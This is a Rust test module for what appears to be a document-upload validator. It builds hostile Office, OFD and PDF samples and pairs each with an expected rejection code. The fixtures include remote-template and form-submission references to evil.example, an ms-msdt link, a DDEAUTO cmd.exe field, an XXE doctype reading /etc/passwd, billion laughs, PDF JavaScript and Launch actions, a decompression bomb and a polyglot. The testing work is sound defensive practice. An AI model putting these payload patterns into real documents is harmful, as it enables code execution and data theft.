//! Documents that do something when they are opened.

use super::super::makers::*;
use super::*;

pub(super) fn hostile_documents() -> Vec<Sample> {
    let docx = |what, more: Vec<Item>, verdict| sample(what, "a.docx", docx_with(more), verdict);
    let rels = |all: &[(&str, &str, &str)]| vec![relationships("word/_rels/document.xml.rels", all)];
    let xml = |text: &str| vec![item("word/extra.xml", text.as_bytes())];
    let run = |text: &str| format!("<w:r><w:instrText>{text}</w:instrText></w:r>");
    let field = |runs: &str| {
        vec![document(&format!(
            "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>{runs}<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>"
        ))]
    };
    let macros = "422 office_macros";
    let external = "422 office_external_reference";
    let dde = "422 office_dynamic_data";
    let utf16: Vec<u8> = "\u{feff}<!DOCTYPE a><a/>".encode_utf16().flat_map(u16::to_le_bytes).collect();
    vec![
        docx("macros", vec![item("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")], macros),
        docx("macros elsewhere", vec![item("custom/VBAPROJECT.BIN", b"x")], macros),
        docx(
            "a type with macros",
            vec![content_types(
                "/word/document.xml",
                "application/vnd.ms-word.document.macroEnabled.main+xml",
            )],
            macros,
        ),
        sample(
            "old macros of a workbook",
            "a.xlsx",
            xlsx_with(vec![item("xl/macrosheets/sheet1.xml", b"<x/>")]),
            macros,
        ),
        docx("ActiveX", vec![item("word/activeX/activeX1.xml", b"<x/>")], "422 office_active_content"),
        docx(
            "an embedded object",
            vec![item("word/embeddings/oleObject1.bin", b"x")],
            "422 office_active_content",
        ),
        docx(
            "an old document under another name",
            vec![item("word/media/a.emf", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1")],
            "422 office_active_content",
        ),
        docx(
            "a template from elsewhere",
            rels(&[("attachedTemplate", "External", "http://evil.example/t.dotm")]),
            external,
        ),
        docx(
            "the same, its mode spelt in references",
            rels(&[("attachedTemplate", "Extern&#97;&#x6C;", "http://evil.example/t.dotm")]),
            external,
        ),
        docx(
            "a template on a share",
            rels(&[("attachedTemplate", "External", "\\\\evil\\t.dotm")]),
            external,
        ),
        docx(
            "an object from elsewhere",
            rels(&[("oleObject", "External", "https://evil.example/x")]),
            external,
        ),
        docx("a frame from elsewhere", rels(&[("frame", "external", "https://evil.example/x")]), external),
        docx(
            "a picture from elsewhere",
            rels(&[("image", "External", "https://evil.example/x.png")]),
            external,
        ),
        docx(
            "a link that runs something",
            rels(&[("hyperlink", "External", "ms-msdt:/id PCWDiagnostic")]),
            external,
        ),
        docx("a link to a file", rels(&[("hyperlink", "External", "file:///C:/Windows/calc.exe")]), external),
        docx("a link in script", rels(&[("hyperlink", "External", " javascript:alert(1)")]), external),
        sample(
            "a workbook that loads another",
            "a.xlsx",
            xlsx_with(vec![relationships(
                "xl/externalLinks/_rels/externalLink1.xml.rels",
                &[("externalLinkPath", "External", "file:///a.xlsx")],
            )]),
            external,
        ),
        docx("DDE", field(&run(" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\" ")), dde),
        docx("DDE cut into runs", field(&[run("DD"), run("E"), run("AUTO x")].concat()), dde),
        docx("DDE in references", field(&run("&#68;&#68;E x y")), dde),
        docx(
            "DDE in a simple field",
            vec![document("<w:p><w:fldSimple w:instr='DDE \"excel\" \"x\"'/></w:p>")],
            dde,
        ),
        docx("a picture that a field fetches", field(&run("INCLUDEPICTURE \"http://evil.example/x\"")), dde),
        sample(
            "DDE of a workbook",
            "a.xlsx",
            xlsx_with(vec![item(
                "xl/externalLinks/externalLink1.xml",
                b"<externalLink><ddeLink ddeService=\"cmd\"/></externalLink>",
            )]),
            dde,
        ),
        docx(
            "a document type",
            xml("<?xml version='1.0'?><!DOCTYPE a SYSTEM 'file:///etc/passwd'><a/>"),
            "422 xml_doctype",
        ),
        docx(
            "a billion laughs",
            xml("<!DOCTYPE a [<!ENTITY b 'lol'><!ENTITY c '&b;&b;'>]><a>&c;</a>"),
            "422 xml_doctype",
        ),
        docx("an entity in small letters", xml("<a/><!entity x 'y'>"), "422 xml_doctype"),
        docx("XML in UTF-16", vec![item("word/extra.xml", &utf16)], "422 xml_unreadable"),
        docx("the same under another name", vec![item("word/extra.bin", &utf16)], "422 xml_unreadable"),
        docx(
            "XML in another encoding",
            xml("<?xml version='1.0' encoding='UTF-7'?><a/>"),
            "422 xml_unreadable",
        ),
        docx("XML that never ends", xml("<a href='"), "422 xml_unreadable"),
        docx("a program", vec![item("word/a.exe", b"x")], "422 archive_program"),
        docx(
            "a program under another name",
            vec![item("word/media/a.png", b"MZ\x90\0")],
            "422 archive_program",
        ),
        docx("a script", vec![item("word/a.vbs", b"x")], "422 archive_program"),
        sample(
            "an OFD with a script",
            "a.ofd",
            ofd_with(vec![item("Doc_0/Res/a.js", b"x")]),
            "422 archive_program",
        ),
        sample(
            "an OFD with a document type",
            "a.ofd",
            ofd_with(vec![item("Doc_0/Annots.xml", b"<!DOCTYPE a><a/>")]),
            "422 xml_doctype",
        ),
        docx(
            "a huge picture",
            vec![stored_item("word/media/a.png", &png_of(60_000, 60_000))],
            "422 image_too_large",
        ),
    ]
}

pub(super) fn hostile_pdfs() -> Vec<Sample> {
    let of = |what, bytes: Vec<u8>, verdict| sample(what, "a.pdf", bytes, verdict);
    let packed = |text: &str| {
        pdf_of(&[stream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", &zlib(text.as_bytes()))])
    };
    let (script, action) = ("422 pdf_javascript", "422 pdf_action");
    let whole = pdf();
    let both = {
        // A PDF that is also an archive: entries within a stream, the directory behind, its end covered by a comment.
        let items = docx_items();
        let mut bytes = pdf();
        let mut offsets = Vec::new();
        for item in &items {
            offsets.push(u32::try_from(bytes.len()).unwrap());
            bytes.extend(local(item));
        }
        let mut bytes = finish(bytes, &items, &offsets);
        let tail = b"\nstartxref\n0\n%%EOF\n";
        let at = bytes.len() - 2;
        bytes[at] = u8::try_from(tail.len()).unwrap();
        bytes.extend(tail);
        bytes
    };
    let bomb = pdf_of(&vec![stream("/Type /ObjStm /Filter /FlateDecode", &zlib(&vec![b' '; 60 << 20])); 4]);
    vec![
        of("JavaScript", pdf_with("<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>"), script),
        of("JavaScript spelt in escapes", pdf_with("<< /S /J#61v#61Script >>"), script),
        of("JavaScript in a packed object", packed("5 0 << /S /JavaScript /JS (x) >>"), script),
        of("only the short word in a packed object", packed("5 0 << /JS (x) >>"), script),
        of("scripts by name", pdf_with("<< /Names << /JavaScript 5 0 R >> >>"), script),
        of(
            "an object behind a stream's bytes",
            pdf_of(&[stream("", b"x\nendobj\n9 0 obj << /S /JavaScript >> endobj\n")]),
            script,
        ),
        of("a program started", pdf_with("<< /S /Launch /F (cmd.exe) >>"), action),
        of("a form sent", pdf_with("<< /S /SubmitForm /F (http://evil.example) >>"), action),
        of("another file opened", pdf_with("<< /S /GoToR /F (\\\\\\\\evil\\\\x.pdf) >>"), action),
        of("media", pdf_with("<< /Subtype /RichMedia >>"), action),
        of("XFA", pdf_with("<< /AcroForm << /XFA 5 0 R >> >>"), action),
        of("a file within", pdf_with("<< /Type /EmbeddedFile >>"), "422 pdf_embedded_file"),
        of(
            "files within by name",
            pdf_with("<< /Names << /EmbeddedFiles 5 0 R >> >>"),
            "422 pdf_embedded_file",
        ),
        of("a password", pdf_with("<< /Encrypt 5 0 R >>"), "422 file_encrypted"),
        of(
            "a packed object that nobody can read",
            pdf_of(&[stream("/Type /ObjStm /Filter /FlateDecode", b"not packed")]),
            "422 pdf_unreadable",
        ),
        of(
            "a packed object packed twice",
            pdf_of(&[stream("/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]", &zlib(b"x"))]),
            "422 pdf_unreadable",
        ),
        of("a bomb of packed objects", bomb, "422 archive_ratio"),
        of("half a file", whole[..whole.len() / 2].to_vec(), "422 file_truncated"),
        of("no end", b"%PDF-1.7\n1 0 obj\n<< >>\nendobj\n".to_vec(), "422 file_truncated"),
        of("no version", b"%PDF-x\nstartxref\n0\n%%EOF".to_vec(), "422 file_damaged"),
        of("an archive behind it", [whole.clone(), docx()].concat(), "422 file_trailing_data"),
        of("a PDF that is also an archive", both, "422 file_polyglot"),
        of("a program before it", [b"MZ".to_vec(), whole].concat(), "415 file_type_not_allowed"),
    ]
}
